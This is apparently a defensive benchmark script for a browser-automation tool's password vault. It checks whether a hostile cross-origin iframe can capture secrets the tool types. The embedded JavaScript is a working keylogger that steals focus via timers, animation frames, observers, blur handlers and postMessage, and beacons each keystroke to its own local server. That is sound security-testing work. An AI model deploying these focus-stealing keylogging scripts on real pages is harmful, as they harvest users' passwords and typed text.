"""A frame of another site that fights for the focus while a secret is typed: what it gets of 50 secrets, told by its
own server. Each round is another value and another way to fight; the answer is an error or the field holds the whole.

    .venv/bin/python -m benchmarks.secret_focus [rounds]
"""

from __future__ import annotations

import asyncio
import itertools
import json
import sys
import tempfile
import threading
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

from benchmarks._session import must, row
from oryn.browsers.chromium import ChromiumBrowser
from oryn.engine import Options, Session
from oryn.system import paths
from oryn.vault import Vault

WAYS = {
    "timer": "setInterval(() => got.focus(), 1); setInterval(() => got.focus(), 0)",
    "frames": "(function again() { got.focus(); requestAnimationFrame(again) })()",
    "observer": "new MutationObserver(() => got.focus()).observe(document, {subtree: true, attributes: true});"
    "setInterval(() => document.body.toggleAttribute('x'), 1)",
    "blur": "got.focus(); onblur = got.onblur = () => { window.focus(); got.focus() };"
    "setInterval(() => got.focus(), 3)",
    "messages": "onmessage = () => { got.focus(); parent.postMessage(0, '*') }; parent.postMessage(0, '*')",
}
OUTER = """<title>Sign in</title><label>Password <input type=password id=password></label>
<label>Note <input id=note></label><iframe src="{frame}"></iframe><script>
onmessage = (event) => event.source.postMessage(0, '*')</script>"""
INNER = """<input id=got><script>
for (const kind of ['keydown', 'keypress', 'beforeinput', 'input', 'paste'])
  addEventListener(kind, (event) => {{ const told = event.data ?? (event.key && event.key.length < 3 ? event.key : '');
    if (told) navigator.sendBeacon('/got?' + encodeURIComponent(told)) }}, true);
{way}</script>"""


class Sites:
    """Two sites on two ports: the page, and the frame that fights. `got`: what the frame has told its server."""

    def __init__(self) -> None:
        self.got: list[str] = []
        self.way = ""
        sites = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_: Any) -> None:
                pass

            def do_GET(self) -> None:
                parts = urlsplit(self.path)
                if parts.path == "/got":
                    sites.got.append(unquote(parts.query))
                pages = {"/": OUTER.format(frame=sites.frame), "/frame": INNER.format(way=sites.way)}
                body = pages.get(parts.path, "").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

        self._servers = [ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2)]
        for server in self._servers:
            threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        page, frame = (server.server_port for server in self._servers)
        self.page, self.frame = f"http://127.0.0.1:{page}/", f"http://localhost:{frame}/frame"

    def close(self) -> None:
        for server in self._servers:
            server.shutdown()
            server.server_close()


@asynccontextmanager
async def fight(sites: Sites) -> AsyncIterator[tuple[Session, Vault]]:
    with tempfile.TemporaryDirectory() as folder:
        vault = Vault(paths.find({"ORYN_HOME": folder}), "file", {})
        session = Session(ChromiumBrowser(runtime_dir=Path(folder)), options=Options(timeout=30))
        session.vault = lambda: vault
        try:
            yield session, vault
        finally:
            await session.close()


async def main(rounds: int) -> None:
    sites = Sites()
    whole = refused = wrong = 0
    control = 0
    async with fight(sites) as (session, vault):
        for number, (name, way) in zip(range(rounds), itertools.cycle(WAYS.items()), strict=False):
            sites.way = way
            value = f"correct-horse-{number:04}-battery"
            vault.store("site.password", value, [sites.page.rstrip("/")])
            await must(session, f"goto {sites.page}")
            target = ("Password", "Note")[number // len(WAYS) % 2]
            answer = await session.execute(f'type "{target}" "{{{{vault:site.password}}}}"')
            held = await session.page.evaluate(f"{target.lower()}.value")
            whole += answer.ok and held == value
            refused += not answer.ok and held == ""
            if not (answer.ok and held == value) and (answer.ok or held):
                wrong += 1
                print(f"round {number}, {name}: {answer.render()!r}, the field holds {held!r}")
        await session.page.evaluate("1")
        to_the_frame = len("".join(sites.got))
        sites.got.clear()
        # That the frame does fight: what it takes of text that is typed by keys.
        for way in WAYS.values():
            sites.way = way
            await must(session, f"goto {sites.page}")
            await session.execute('type "Note" "this is no secret at all, and long enough to be fought for"')
        await session.execute("goto about:blank")
        control = len("".join(sites.got))
    sites.close()
    row("rounds", rounds)
    row("the field holds the whole", whole)
    row("errors, and the field is empty", refused)
    row("neither", wrong)
    row("characters to the frame", to_the_frame)
    row("of ordinary text, to compare", control)
    print(
        json.dumps({"rounds": rounds, "to_the_frame": to_the_frame, "whole": whole, "refused": refused, "wrong": wrong})
    )
    if to_the_frame or wrong:
        raise SystemExit(1)


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]) if len(sys.argv) > 1 else 50))
